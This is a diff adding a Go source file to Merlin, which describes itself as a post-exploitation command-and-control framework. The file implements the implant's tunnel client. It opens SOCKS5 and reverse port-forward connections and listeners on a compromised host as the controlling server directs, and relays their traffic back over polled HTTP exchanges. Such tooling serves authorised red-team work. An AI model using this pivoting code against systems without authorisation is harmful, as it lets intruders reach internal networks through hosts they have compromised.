@@ -0,0 +1,313 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"net"
+	"sync"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+const (
+	tunnelMinInterval = 50 * time.Millisecond // The wait between exchanges while connections are sending data
+	tunnelMaxInterval = 2 * time.Second       // The longest wait between exchanges while connections are idle
+	tunnelMaxPending  = 4 << 20               // The most connection data queued for the server before reading pauses
+	tunnelMaxExchange = 1 << 20               // The most data sent to the server in one exchange
+	tunnelReadSize    = 32 << 10              // The most data read from a connection into one packet
+)
+
+// tunnelClient makes the connections for the server's SOCKS5 proxies and port forwards and exchanges their data with
+// the server
+type tunnelClient struct {
+	sync.Mutex
+	cond      *sync.Cond
+	conns     map[uint32]net.Conn
+	accepted  map[uint32]net.Conn     // Reverse port forward connections waiting for the server to connect
+	listeners map[uint32]net.Listener // Reverse port forward listeners keyed by forward ID
+	nextID    uint32
+	pending   []messages.TunnelPacket // Packets waiting for the next exchange
+	size      int                     // Bytes of data in pending
+	running   bool
+}
+
+// newTunnelClient returns a stopped tunnel client
+func newTunnelClient() *tunnelClient {
+	t := &tunnelClient{
+		conns:     make(map[uint32]net.Conn),
+		accepted:  make(map[uint32]net.Conn),
+		listeners: make(map[uint32]net.Listener),
+	}
+	t.cond = sync.NewCond(&t.Mutex)
+	return t
+}
+
+// startTunnel starts exchanging tunnel packets with the server until the server sends the stop command
+func (a *Agent) startTunnel() error {
+	a.tunnel.Lock()
+	defer a.tunnel.Unlock()
+	if a.tunnel.running {
+		return nil
+	}
+	a.tunnel.running = true
+	go a.tunnelExchange()
+	return nil
+}
+
+// tunnelExchange sends the connections' data to the server and handles the server's packets, waiting less between
+// exchanges while data is flowing
+func (a *Agent) tunnelExchange() {
+	t := a.tunnel
+	interval := tunnelMinInterval
+	failed := 0
+	for {
+		packets := t.drain()
+		m := messages.Base{
+			Version: 1.0,
+			ID:      a.ID,
+			Type:    "Tunnel",
+			Payload: messages.Tunnel{Packets: packets},
+		}
+		r, err := a.sendMessage("POST", m)
+		if err != nil {
+			failed++
+			if a.Verbose {
+				message("warn", fmt.Sprintf("there was an error exchanging tunnel packets:\r\n%s", err.Error()))
+			}
+			if failed >= a.MaxRetry {
+				t.stop()
+				return
+			}
+			time.Sleep(tunnelMaxInterval)
+			continue
+		}
+		failed = 0
+		p, ok := r.Payload.(messages.Tunnel)
+		if r.Type != "Tunnel" || !ok || p.Command == "stop" {
+			if a.Verbose {
+				message("note", "Stopping the tunnel")
+			}
+			t.stop()
+			return
+		}
+		for _, packet := range p.Packets {
+			t.handle(packet)
+		}
+
+		if len(packets) > 0 || len(p.Packets) > 0 {
+			interval = tunnelMinInterval
+		} else if interval *= 2; interval > tunnelMaxInterval {
+			interval = tunnelMaxInterval
+		}
+		time.Sleep(interval)
+	}
+}
+
+// handle starts or stops a reverse port forward listener, connects to a target, or writes the server's data to a
+// connection or closes it
+func (t *tunnelClient) handle(p messages.TunnelPacket) {
+	switch {
+	case p.Listen != "":
+		t.listen(p.Forward, p.Listen)
+		return
+	case p.ID == 0 && p.Forward != 0 && p.Close:
+		t.Lock()
+		l, ok := t.listeners[p.Forward]
+		delete(t.listeners, p.Forward)
+		t.Unlock()
+		if ok {
+			_ = l.Close()
+		}
+		return
+	case p.Target != "":
+		go t.connect(p.ID, p.Target)
+		return
+	case p.Connected:
+		// The server connected to the reverse port forward's target
+		t.Lock()
+		c, ok := t.accepted[p.ID]
+		delete(t.accepted, p.ID)
+		if ok {
+			t.conns[p.ID] = c
+		}
+		t.Unlock()
+		if ok {
+			go t.relay(p.ID, c)
+		}
+		return
+	}
+
+	t.Lock()
+	c, ok := t.conns[p.ID]
+	if !ok {
+		// The server could not connect to a reverse port forward's target
+		if c, ok = t.accepted[p.ID]; ok {
+			delete(t.accepted, p.ID)
+			t.conns[p.ID] = c
+		}
+	}
+	t.Unlock()
+	if !ok {
+		return
+	}
+	if len(p.Data) > 0 {
+		_ = c.SetWriteDeadline(time.Now().Add(30 * time.Second))
+		if _, err := c.Write(p.Data); err != nil {
+			t.remove(p.ID)
+			t.queue(messages.TunnelPacket{ID: p.ID, Close: true, Error: err.Error()})
+			return
+		}
+	}
+	if p.Close {
+		t.remove(p.ID)
+	}
+}
+
+// listen accepts connections for a reverse port forward and asks the server to connect them to its target
+func (t *tunnelClient) listen(forward uint32, addr string) {
+	l, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.queue(messages.TunnelPacket{Forward: forward, Error: err.Error()})
+		return
+	}
+	t.Lock()
+	t.listeners[forward] = l
+	t.Unlock()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			t.Lock()
+			t.nextID++
+			id := 1<<31 | t.nextID
+			t.accepted[id] = c
+			t.Unlock()
+			t.queue(messages.TunnelPacket{ID: id, Forward: forward})
+		}
+	}()
+}
+
+// connect dials the target and reads its data for the server until the connection is closed
+func (t *tunnelClient) connect(id uint32, target string) {
+	c, err := net.DialTimeout("tcp", target, 30*time.Second)
+	if err != nil {
+		t.queue(messages.TunnelPacket{ID: id, Close: true, Error: err.Error()})
+		return
+	}
+	t.Lock()
+	if !t.running {
+		t.Unlock()
+		_ = c.Close()
+		return
+	}
+	t.conns[id] = c
+	t.Unlock()
+	t.queue(messages.TunnelPacket{ID: id, Connected: true})
+	t.relay(id, c)
+}
+
+// relay reads the connection's data for the server until the connection is closed
+func (t *tunnelClient) relay(id uint32, c net.Conn) {
+	buf := make([]byte, tunnelReadSize)
+	for {
+		n, err := c.Read(buf)
+		if n > 0 {
+			t.queue(messages.TunnelPacket{ID: id, Data: append([]byte(nil), buf[:n]...)})
+		}
+		if err != nil {
+			t.Lock()
+			_, open := t.conns[id]
+			t.Unlock()
+			// The server already knows about connections it closed
+			if open {
+				t.remove(id)
+				t.queue(messages.TunnelPacket{ID: id, Close: true})
+			}
+			return
+		}
+	}
+}
+
+// queue adds a packet for the server, waiting while too much connection data is already waiting
+func (t *tunnelClient) queue(p messages.TunnelPacket) {
+	t.Lock()
+	defer t.Unlock()
+	for len(p.Data) > 0 && t.size >= tunnelMaxPending && t.running {
+		t.cond.Wait()
+	}
+	if !t.running {
+		return
+	}
+	t.pending = append(t.pending, p)
+	t.size += len(p.Data)
+}
+
+// drain removes and returns the packets waiting for the server
+func (t *tunnelClient) drain() []messages.TunnelPacket {
+	t.Lock()
+	defer t.Unlock()
+	var out []messages.TunnelPacket
+	size := 0
+	for len(t.pending) > 0 && (size == 0 || size+len(t.pending[0].Data) <= tunnelMaxExchange) {
+		size += len(t.pending[0].Data)
+		out = append(out, t.pending[0])
+		t.pending = t.pending[1:]
+	}
+	t.size -= size
+	t.cond.Broadcast()
+	return out
+}
+
+// remove closes and forgets a connection
+func (t *tunnelClient) remove(id uint32) {
+	t.Lock()
+	c, ok := t.conns[id]
+	delete(t.conns, id)
+	t.Unlock()
+	if ok {
+		_ = c.Close()
+	}
+}
+
+// stop closes every listener and connection and discards the packets waiting for the server
+func (t *tunnelClient) stop() {
+	t.Lock()
+	defer t.Unlock()
+	for id, l := range t.listeners {
+		_ = l.Close()
+		delete(t.listeners, id)
+	}
+	for id, c := range t.accepted {
+		_ = c.Close()
+		delete(t.accepted, id)
+	}
+	for id, c := range t.conns {
+		_ = c.Close()
+		delete(t.conns, id)
+	}
+	t.pending = nil
+	t.size = 0
+	t.running = false
+	t.cond.Broadcast()
+}